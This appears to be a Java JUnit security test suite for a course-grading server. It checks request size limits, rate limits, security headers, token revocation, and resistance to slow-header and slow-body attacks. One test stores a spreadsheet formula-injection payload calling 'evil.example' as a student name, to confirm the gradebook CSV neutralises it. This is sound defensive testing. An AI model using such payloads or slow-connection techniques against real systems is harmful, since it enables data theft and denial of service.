package dev.refgrade.server;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.util.Map;
import org.junit.jupiter.api.Test;

/**
 * Issue 19: what an anonymous visitor, a student or an instructor could do to the server or to
 * each other, each finding tried the way it was found, at a small size (docs/SECURITY.md).
 */
abstract class ServerSecurityContract extends ServerWithTestServer {
    ServerSecurityContract(Databases.Kind kind) {
        super(kind);
    }

    private static String program(int bytes) {
        return "{\"code\": \"" + "x = 1\\n".repeat(bytes / 7 + 1) + "\"}";
    }

    // Finding 5: one body reader, with its limit, for every route.

    @Test
    void aChunkedPlaygroundBodyOverTheLimitIs413() {
        Api.Response r = api.postChunked("/api/playground/run", null, program(300 * 1024));
        assertEquals(413, r.status(), r.text());
        assertEquals("too_large", r.error());
    }

    @Test
    void aDeclaredPlaygroundBodyOverTheLimitIs413() {
        Api.Response r = api.post("/api/playground/run", null, program(300 * 1024));
        assertEquals(413, r.status(), r.text());
    }

    // Finding 10: the gradebook CSV never holds a formula.

    @Test
    void aStudentNamedLikeAFormulaIsTextInTheGradebookCsv() {
        assertEquals(201, api.post("/api/courses", TestServer.ADMIN, Map.of("id", "c1", "title", "C1")).status());
        String name = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";
        assertEquals(201, api.post("/api/courses/c1/students", TestServer.ADMIN, java.util.List.of(Map.of("id", "s1", "name", name))).status());
        String csv = api.get("/api/courses/c1/grades?format=csv", TestServer.ADMIN).text();
        String row = csv.lines().filter(l -> l.contains("s1")).findFirst().orElseThrow();
        assertTrue(row.startsWith("\"'=HYPERLINK("), row);
    }

    // Finding 4: a playground response is bounded in bytes.

    @Test
    void aPlaygroundRunOfALongLineInALoopStaysWithinTheResponseBudget() {
        String code = "for i in range(2000):\n    s = '" + "x".repeat(19_000) + "'\n";
        Api.Response r = api.post("/api/playground/run", null, Map.of("code", code));
        assertEquals(200, r.status());
        assertTrue(r.text().length() <= dev.refgrade.server.playground.Playground.MAX_BYTES, r.text().length() + " bytes");
        assertTrue(r.json().get("truncated").asBoolean());
    }

    // Finding 7: a draft check bounds its variant combinations before making any.

    @Test
    void aDraftAskingForAHundredMillionVariantsIsAProblemNotAnOutOfMemory() {
        StringBuilder yaml = new StringBuilder("id: bomb\ntitle: T\ncode: |\n  x = {{a}}\nparams:\n");
        for (char name = 'a'; name <= 'h'; name++) yaml.append("  ").append(name).append(": [0, 1, 2, 3, 4, 5, 6, 7, 8, 9]\n");
        yaml.append("questions:\n  - {id: q, prompt: p, answer: output}\n");
        Api.Response r = api.post("/api/exercises/check", TestServer.ADMIN, Map.of("yaml", yaml.toString()));
        assertEquals(200, r.status(), r.text());
        assertTrue(r.json().get("problems").get(0).asText().contains("make 100000000 variants"), r.text());
    }

    // Finding 9: an exercise file that turns invalid keeps its last valid version served.

    @Test
    void anExerciseThatTurnsInvalidOnReloadKeepsItsLastValidVersionServed() throws Exception {
        Fixture f = Fixture.create(s, "cs101", 1, null);
        java.nio.file.Path file = dir.resolve("exercises/" + E + ".yaml");
        String valid = java.nio.file.Files.readString(file);
        java.nio.file.Files.writeString(file, valid.replace("questions:", "questions: [\n"));
        var reloaded = api.post("/api/admin/reload", TestServer.ADMIN, "").json();
        assertEquals(2, reloaded.get("exercises").size(), reloaded.toString());
        assertEquals(s.catalog.exercise(E).orElseThrow().hash(), reloaded.get("invalid").get(0).get("serving").asText());
        assertTrue(reloaded.get("invalid").get(0).get("problems").get(0).asText().contains(E + ".yaml:"), reloaded.toString());
        assertEquals(200, api.get(f.exercisePath(E), f.token("s1")).status());
        String possible = api.get("/api/courses/cs101/grades?format=csv", TestServer.ADMIN).text().lines().skip(1).findFirst().orElseThrow();
        assertFalse(possible.contains(",0.0,") || possible.endsWith(",0.0"), possible);
    }

    @Test
    void aRubricThatTurnsInvalidOnReloadKeepsItsLastValidVersionServed() throws Exception {
        java.nio.file.Path file = dir.resolve("rubrics/exam.yaml");
        String valid = java.nio.file.Files.readString(file);
        java.nio.file.Files.writeString(file, valid + "\npoints: [\n");
        var reloaded = api.post("/api/admin/reload", TestServer.ADMIN, "").json();
        assertTrue(reloaded.get("rubrics").toString().contains("\"exam\""), reloaded.toString());
        var invalid = reloaded.get("invalid").get(0);
        assertTrue(invalid.get("file").asText().endsWith("exam.yaml"), reloaded.toString());
        assertEquals(dev.refgrade.exercise.Digest.sha256(valid), invalid.get("serving").asText());
        assertTrue(s.catalog.rubric("exam").isPresent());
    }

    @Test
    void aNewRubricFileThatIsInvalidServesNothingAndSaysSo() throws Exception {
        java.nio.file.Files.writeString(dir.resolve("rubrics/broken.yaml"), "name: broken\npoints: [\n");
        var reloaded = api.post("/api/admin/reload", TestServer.ADMIN, "").json();
        assertTrue(reloaded.get("invalid").get(0).get("serving").isNull(), reloaded.toString());
        assertFalse(reloaded.get("rubrics").toString().contains("broken"), reloaded.toString());
    }

    @Test
    void aNewFileThatIsInvalidServesNothingAndSaysSo() throws Exception {
        java.nio.file.Files.writeString(dir.resolve("exercises/broken.yaml"), "id: broken\ntitle: [\n");
        var reloaded = api.post("/api/admin/reload", TestServer.ADMIN, "").json();
        assertTrue(reloaded.get("invalid").get(0).get("serving").isNull(), reloaded.toString());
    }

    // Finding 8: what one student can write, and what one listing reads.

    @Test
    void aSubmissionBodyOverItsOwnLimitIs413AndStoresNothing() {
        Fixture f = Fixture.create(s, "cs101", 1, null);
        String big = "{\"answers\": {\"alias\": \"" + "x".repeat(40 * 1024) + "\"}}";
        Api.Response r = api.post(f.submissions(E), f.token("s1"), big);
        assertEquals(413, r.status(), r.text());
        assertEquals(0, s.store.submissions().history("cs101", "hw1", E, "s1").size());
    }

    @Test
    void aStudentSubmittingFasterThanThePerMinuteLimitGets429WithRetryAfter() {
        try (TestServer limited = new TestServer(database(dir.resolve("limited")), dir, Config.defaults().withAdminToken(TestServer.ADMIN)
                .withRateLimit(1000, 1000).withSubmitsPerMinute(3), new TestServer.MutableClock())) {
            Fixture f = Fixture.create(limited, "cs101", 2, null);
            for (int i = 0; i < 3; i++) assertEquals(201, limited.api.post(f.submissions(E), f.token("s1"), Map.of("answers", Map.of("alias", true))).status());
            Api.Response refused = limited.api.post(f.submissions(E), f.token("s1"), Map.of("answers", Map.of("alias", true)));
            assertEquals(429, refused.status(), refused.text());
            assertTrue(refused.raw().headers().firstValue("Retry-After").isPresent());
            assertEquals(201, limited.api.post(f.submissions(E), f.token("s2"), Map.of("answers", Map.of("alias", true))).status(),
                    "another student is not held back");
        }
    }

    @Test
    void submissionListsComeInPagesWithTheNextOffset() {
        Fixture f = Fixture.create(s, "cs101", 1, null);
        for (int i = 0; i < 3; i++) api.post(f.submissions(E), f.token("s1"), Map.of("answers", Map.of("alias", true)));
        Api.Response first = api.get(f.submissions(E) + "?limit=2", f.token("s1"));
        assertEquals(2, first.json().size());
        assertEquals("2", first.raw().headers().firstValue("Next-Offset").orElseThrow());
        Api.Response rest = api.get(f.submissions(E) + "?limit=2&offset=2", f.token("s1"));
        assertEquals(1, rest.json().size());
        assertEquals(3, rest.json().get(0).get("attempt").asInt());
        assertTrue(rest.raw().headers().firstValue("Next-Offset").isEmpty());
        assertEquals(3, api.get(f.submissions(E), TestServer.ADMIN).json().size());
        assertEquals(400, api.get(f.submissions(E) + "?limit=100000", TestServer.ADMIN).status());
    }

    // Finding 11: headers, HEAD, /metrics, dates.

    @Test
    void everyResponseCarriesTheSecurityHeaders() {
        for (String path : java.util.List.of("/index.html", "/api/me", "/health", "/no-such-page")) {
            var headers = api.get(path, null).raw().headers();
            String csp = headers.firstValue("Content-Security-Policy").orElse("");
            assertTrue(csp.contains("script-src 'self'") && !csp.contains("unsafe-inline") && csp.contains("frame-ancestors 'none'"), path + ": " + csp);
            assertEquals("nosniff", headers.firstValue("X-Content-Type-Options").orElse(""), path);
            assertEquals("no-referrer", headers.firstValue("Referrer-Policy").orElse(""), path);
        }
    }

    @Test
    void headUnderApiIsNeverAnsweredWithoutTheTokenCheck() {
        Fixture.create(s, "cs101", 1, null);
        for (String path : java.util.List.of("/api/courses/cs101/grades", "/api/me", "/api/courses")) {
            int status = api.send("HEAD", path, null, null, "application/json").status();
            assertTrue(status == 401 || status == 405, path + " answered " + status);
        }
    }

    @Test
    void metricsNeedAnInstructorTokenUnlessConfiguredPublic() {
        assertEquals(401, api.get("/metrics", null).status());
        assertEquals(200, api.get("/metrics", TestServer.ADMIN).status());
        try (TestServer open = new TestServer(database(dir.resolve("open")), dir, Config.defaults().withAdminToken(TestServer.ADMIN)
                .withRateLimit(0, 0).withPublicMetrics(true), new TestServer.MutableClock())) {
            assertEquals(200, open.api.get("/metrics", null).status());
        }
    }

    @Test
    void aFarFutureDueDateIs422NamingTheField() {
        assertEquals(201, api.post("/api/courses", TestServer.ADMIN, Map.of("id", "c1", "title", "C1")).status());
        Api.Response r = api.post("/api/courses/c1/assignments", TestServer.ADMIN,
                Map.of("id", "a1", "title", "A", "exercises", java.util.List.of(E), "due", "+1000000000-01-01T00:00:00Z"));
        assertEquals(422, r.status(), r.text());
        assertEquals("due", r.json().get("field").asText());
    }

    @Test
    void healthIs503WhenTheDatabasesDiskIsFull() {
        try (TestServer full = new TestServer(database(dir.resolve("full")), dir, Config.defaults().withAdminToken(TestServer.ADMIN)
                .withRateLimit(0, 0).withMinFreeDisk(Long.MAX_VALUE), new TestServer.MutableClock())) {
            Api.Response h = full.api.get("/health", null);
            if (full.store.dialect() == dev.refgrade.store.Dialect.SQLITE) {
                assertEquals(503, h.status(), h.text());
                assertEquals("full", h.json().get("disk").asText());
            } else {
                assertEquals(200, h.status(), "PostgreSQL's disk is its own server's to watch");
                assertEquals("not watched", h.json().get("disk").asText());
            }
        }
    }

    @Test
    void aClientDrippingHeadersIsDisconnected() throws Exception {
        try (TestServer slow = new TestServer(database(dir.resolve("slow")), dir, Config.defaults().withAdminToken(TestServer.ADMIN)
                .withRateLimit(0, 0).withTimeouts(java.time.Duration.ofSeconds(30), java.time.Duration.ofMillis(500)), new TestServer.MutableClock());
                java.net.Socket socket = new java.net.Socket("127.0.0.1", slow.app.port())) {
            socket.setSoTimeout(20_000);
            var out = socket.getOutputStream();
            out.write("GET /health HTTP/1.1\r\nHost: x\r\n".getBytes());
            boolean closed = false;
            // Each header line comes well within the 30 s idle timeout; only the header timeout can end this.
            for (int i = 0; i < 100 && !closed; i++) {
                Thread.sleep(100);
                try {
                    out.write(("X-Drip-" + i + ": 1\r\n").getBytes());
                    out.flush();
                } catch (java.io.IOException e) {
                    closed = true;
                }
            }
            assertTrue(closed, "still connected after 10 s of dripping headers");
        }
    }

    @Test
    void aBodyTricklingInSlowerThanAKilobyteASecondIsCutOffWith408() throws Exception {
        try (java.net.Socket socket = new java.net.Socket("127.0.0.1", s.app.port())) {
            socket.setSoTimeout(20_000);
            var out = socket.getOutputStream();
            out.write((RawHttp.postHead("/api/courses", TestServer.ADMIN, 2000) + "{").getBytes());
            out.flush();
            // Ten bytes a second, well within the idle timeout between any two of them.
            var in = socket.getInputStream();
            for (int i = 0; i < 100 && in.available() == 0; i++) {
                Thread.sleep(100);
                try {
                    out.write(' ');
                    out.flush();
                } catch (java.io.IOException e) {
                    break;
                }
            }
            String answer = new String(in.readNBytes(4096), java.nio.charset.StandardCharsets.UTF_8);
            assertTrue(answer.startsWith("HTTP/1.1 408 "), answer);
            assertTrue(answer.contains("\"error\":\"request_timeout\""), answer);
        }
    }

    @Test
    void aBodyRefusedByItsLengthIsReadToTheEndSoTheConnectionServesTheNextRequest() throws Exception {
        try (java.net.Socket socket = new java.net.Socket("127.0.0.1", s.app.port())) {
            socket.setSoTimeout(20_000);
            byte[] body = new byte[1 << 20]; // four times the limit: more than Jetty drains on its own
            java.util.Arrays.fill(body, (byte) ' ');
            var out = socket.getOutputStream();
            // Written from another thread, as a client does, so that an early answer cannot block the writer.
            Thread writer = Thread.ofVirtual().start(() -> {
                try {
                    out.write(RawHttp.postHead("/api/courses", TestServer.ADMIN, body.length).getBytes());
                    out.write(body);
                    out.flush();
                } catch (java.io.IOException reset) {
                    // the assertion below says what went wrong
                }
            });
            var in = socket.getInputStream();
            String first = RawHttp.read(in);
            assertTrue(first.startsWith("HTTP/1.1 413 "), first);
            assertFalse(first.toLowerCase(java.util.Locale.ROOT).contains("connection: close"), first);
            writer.join();
            out.write("GET /health HTTP/1.1\r\nHost: x\r\n\r\n".getBytes());
            out.flush();
            String second = RawHttp.read(in);
            assertTrue(second.startsWith("HTTP/1.1 200 "), second);
        }
    }

    @Test
    void aBodyDeclaredFarOverTheLimitIsRefusedUnreadAndTheConnectionClosed() throws Exception {
        try (java.net.Socket socket = new java.net.Socket("127.0.0.1", s.app.port())) {
            socket.setSoTimeout(20_000);
            var out = socket.getOutputStream();
            out.write(RawHttp.postHead("/api/courses", TestServer.ADMIN, Json.DRAIN_BYTES + 1).getBytes());
            out.flush();
            String answer = RawHttp.read(socket.getInputStream());
            assertTrue(answer.startsWith("HTTP/1.1 413 "), answer);
            assertTrue(answer.toLowerCase(java.util.Locale.ROOT).contains("connection: close"), answer);
        }
    }

    // Finding 11: student tokens can be reissued and revoked; co-instructors join by consent.

    @Test
    void aReissuedTokenWorksAndTheOldOneStopsAtOnce() {
        Fixture f = Fixture.create(s, "cs101", 1, null);
        assertEquals(200, api.get("/api/me", f.token("s1")).status());
        Api.Response r = api.post("/api/courses/cs101/students/s1/token", TestServer.ADMIN, "");
        assertEquals(201, r.status(), r.text());
        String fresh = r.json().get("token").asText();
        assertEquals(401, api.get("/api/me", f.token("s1")).status());
        assertEquals("s1", api.get("/api/me", fresh).json().get("id").asText());
    }

    @Test
    void aRevokedTokenStopsAtOnceAndNoneReplacesIt() {
        Fixture f = Fixture.create(s, "cs101", 1, null);
        assertEquals(200, api.get("/api/me", f.token("s1")).status());
        assertEquals(204, api.send("DELETE", "/api/courses/cs101/students/s1/token", TestServer.ADMIN, null, "application/json").status());
        assertEquals(401, api.get("/api/me", f.token("s1")).status());
    }

    @Test
    void onlyTheCoursesInstructorsTouchItsStudentsTokens() {
        Fixture f = Fixture.create(s, "cs101", 1, null);
        String other = api.post("/api/instructors", TestServer.ADMIN, Map.of("id", "grace", "name", "Grace")).json().get("token").asText();
        assertEquals(404, api.post("/api/courses/cs101/students/s1/token", other, "").status());
        assertEquals(403, api.post("/api/courses/cs101/students/s1/token", f.token("s1"), "").status());
        assertEquals(404, api.post("/api/courses/cs101/students/nobody/token", TestServer.ADMIN, "").status());
    }

    @Test
    void anInvitedInstructorTeachesTheCourseOnlyAfterAccepting() {
        Fixture.create(s, "cs101", 1, null);
        String grace = api.post("/api/instructors", TestServer.ADMIN, Map.of("id", "grace", "name", "Grace")).json().get("token").asText();
        Api.Response invited = api.post("/api/courses/cs101/instructors", TestServer.ADMIN, Map.of("id", "grace"));
        assertEquals(201, invited.status(), invited.text());
        assertEquals("invited", invited.json().get("status").asText());
        assertEquals(404, api.get("/api/courses/cs101", grace).status(), "not hers until she accepts");
        assertEquals("cs101", api.get("/api/invitations", grace).json().get(0).get("course").asText());
        assertEquals(201, api.post("/api/invitations/cs101", grace, "").status());
        assertEquals(200, api.get("/api/courses/cs101", grace).status());
        assertEquals(0, api.get("/api/invitations", grace).json().size());
    }

    @Test
    void aDeclinedInvitationLeavesTheCourseAsItWas() {
        Fixture.create(s, "cs101", 1, null);
        String grace = api.post("/api/instructors", TestServer.ADMIN, Map.of("id", "grace", "name", "Grace")).json().get("token").asText();
        api.post("/api/courses/cs101/instructors", TestServer.ADMIN, Map.of("id", "grace"));
        assertEquals(204, api.send("DELETE", "/api/invitations/cs101", grace, null, "application/json").status());
        assertEquals(404, api.get("/api/courses/cs101", grace).status());
        assertEquals(404, api.post("/api/invitations/cs101", grace, "").status(), "nothing left to accept");
    }

    // Finding 12: the playground and draft checks switched off, for a course or for everyone.

    @Test
    void aCourseSwitchRefusesTheCoursesStudentsThePlaygroundAndOnlyThem() {
        Fixture f = Fixture.create(s, "cs101", 1, null);
        Fixture g = Fixture.create(s, "cs102", 1, null);
        Api.Response set = api.send("PUT", "/api/courses/cs101/switches", TestServer.ADMIN, "{\"playground\": false}", "application/json");
        assertEquals(false, set.json().get("playground").asBoolean());
        Api.Response refused = api.post("/api/playground/run", f.token("s1"), Map.of("code", "a = 1\n"));
        assertEquals(403, refused.status());
        assertEquals("switched_off", refused.error());
        assertEquals(200, api.post("/api/playground/run", g.token("s1"), Map.of("code", "a = 1\n")).status());
        api.send("PUT", "/api/courses/cs101/switches", TestServer.ADMIN, "{\"playground\": true}", "application/json");
        assertEquals(200, api.post("/api/playground/run", f.token("s1"), Map.of("code", "a = 1\n")).status());
    }

    @Test
    void theGlobalSwitchRefusesThePlaygroundToEveryoneIncludingAnonymousVisitors() {
        api.send("PUT", "/api/admin/switches", TestServer.ADMIN, "{\"playground\": false}", "application/json");
        assertEquals(403, api.post("/api/playground/run", null, Map.of("code", "a = 1\n")).status());
        assertEquals(false, api.get("/api/admin/switches", TestServer.ADMIN).json().get("playground").asBoolean());
    }

    @Test
    void draftChecksSwitchedOffForACourseAreRefusedToItsInstructors() {
        Fixture.create(s, "cs101", 1, null);
        api.send("PUT", "/api/courses/cs101/switches", TestServer.ADMIN, "{\"draft_checks\": false}", "application/json");
        Api.Response r = api.post("/api/exercises/check", TestServer.ADMIN, Map.of("yaml", "id: d\n"));
        assertEquals(403, r.status(), r.text());
        String grace = api.post("/api/instructors", TestServer.ADMIN, Map.of("id", "grace", "name", "Grace")).json().get("token").asText();
        assertEquals(200, api.post("/api/exercises/check", grace, Map.of("yaml", "id: d\n")).status(), "she teaches no course in an exam");
    }

    @Test
    void theGlobalSwitchRefusesDraftChecksToEveryInstructor() {
        api.send("PUT", "/api/admin/switches", TestServer.ADMIN, "{\"draft_checks\": false}", "application/json");
        assertEquals(403, api.post("/api/exercises/check", TestServer.ADMIN, Map.of("yaml", "id: d\n")).status());
    }
}
